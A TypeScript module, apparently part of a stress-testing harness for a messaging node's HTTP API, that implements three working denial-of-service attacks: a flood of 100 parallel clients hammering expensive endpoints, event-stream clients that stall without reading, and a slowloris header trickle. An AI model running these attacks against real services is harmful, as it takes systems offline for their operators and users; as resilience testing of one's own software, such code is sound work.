/**
 * Local HTTP clients against the victim's API (issue 13.2): the most expensive queries it
 * answers, a hundred at a time; event-stream clients that never read while messages flow;
 * and slow clients that trickle their request headers. They present the operator's token
 * (a local program on the console PC has it as easily as the console does).
 */
import { connect, type Socket } from 'node:net'
import { prepareTraffic } from './floods.js'
import { bump, pause, type Attack, type AttackStats, type AttackTarget } from './types.js'

/** The API's heaviest reads: full pages in both orders, the CAP feed, status and peers. */
const EXPENSIVE = ['/v1/messages?limit=200', '/v1/messages?limit=200&order=newest', '/v1/messages?kind=bulletin&limit=200', '/v1/cap/feed.atom', '/v1/status', '/v1/peers']
const PARALLEL_QUERIES = 100

export const expensiveQueries: Attack = {
  name: 'api_expensive_queries',
  what: `${PARALLEL_QUERIES} local clients in parallel, each asking again as soon as it is answered: ${EXPENSIVE.join(', ')}`,
  prepare: async t => async signal => {
    const stats: AttackStats = {}
    const client = async (k: number): Promise<void> => {
      let i = k
      while (!signal.aborted) {
        const path = EXPENSIVE[i++ % EXPENSIVE.length]
        try {
          const r = await fetch(`${t.api}${path}`, { headers: t.auth, signal: AbortSignal.any([signal, AbortSignal.timeout(30_000)]) })
          const body = await r.arrayBuffer()
          bump(stats, `http${r.status}`)
          bump(stats, 'bytes', body.byteLength)
          if (r.status === 429 || r.status === 503) await pause(100, signal) // told to back off: a little
        } catch { bump(stats, 'failed'); await pause(100, signal) }
      }
    }
    await Promise.all(Array.from({ length: PARALLEL_QUERIES }, async (_, k) => { await client(k) }))
    return stats
  }
}

/** An HTTP/1.1 request written on a raw socket (the header bytes, for trickling). */
function requestHead (t: AttackTarget, path: string, extra: Record<string, string> = {}): string {
  const host = new URL(t.api).host
  const headers = { host, ...t.auth, ...extra }
  return `GET ${path} HTTP/1.1\r\n${Object.entries(headers).map(([k, v]) => `${k}: ${v}\r\n`).join('')}\r\n`
}

function apiSocket (t: AttackTarget): Socket {
  const u = new URL(t.api)
  const s = connect({ host: u.hostname, port: Number(u.port) })
  s.on('error', () => {})
  return s
}

const SSE_CLIENTS = 5
/** Messages per second of honest traffic while the stalled clients hold their streams. */
const TRAFFIC_PER_S = 250

export const sseNonReading: Attack = {
  name: 'sse_non_reading',
  what: `${SSE_CLIENTS} event-stream clients that never read, while another state's node relays ${TRAFFIC_PER_S} bulletins of 8 KB a second`,
  prepare: async t => {
    const traffic = await prepareTraffic(t, 6_000, TRAFFIC_PER_S)
    return async signal => {
      const stats: AttackStats = {}
      const sockets = Array.from({ length: SSE_CLIENTS }, () => {
        const s = apiSocket(t)
        s.write(requestHead(t, '/v1/events', { accept: 'text/event-stream' }))
        s.pause() // never read: the kernel's buffers fill, then the node's
        s.on('close', () => { bump(stats, 'dropped') })
        return s
      })
      const sent = await traffic(signal)
      for (const s of sockets) s.destroy()
      return { ...stats, trafficSent: sent.sent ?? 0 }
    }
  }
}

const SLOW_CLIENTS = 200
/** One byte of headers per this interval per slow client. */
const TRICKLE_MS = 1_000

export const httpSlowloris: Attack = {
  name: 'slowloris_http',
  what: `${SLOW_CLIENTS} local clients sending their request headers one byte a second`,
  prepare: async t => async signal => {
    const stats: AttackStats = {}
    const head = requestHead(t, '/v1/status')
    const clients = Array.from({ length: SLOW_CLIENTS }, () => ({ s: apiSocket(t), at: 0 }))
    for (const c of clients) c.s.on('close', () => { bump(stats, 'closedByNode') })
    while (!signal.aborted) {
      for (const c of clients) {
        if (c.s.destroyed) { c.s = apiSocket(t); c.at = 0; bump(stats, 'reopened') }
        if (c.at < head.length - 2) { c.s.write(head[c.at++]); bump(stats, 'bytes') }
      }
      await pause(TRICKLE_MS, signal)
    }
    for (const c of clients) c.s.destroy()
    return stats
  }
}
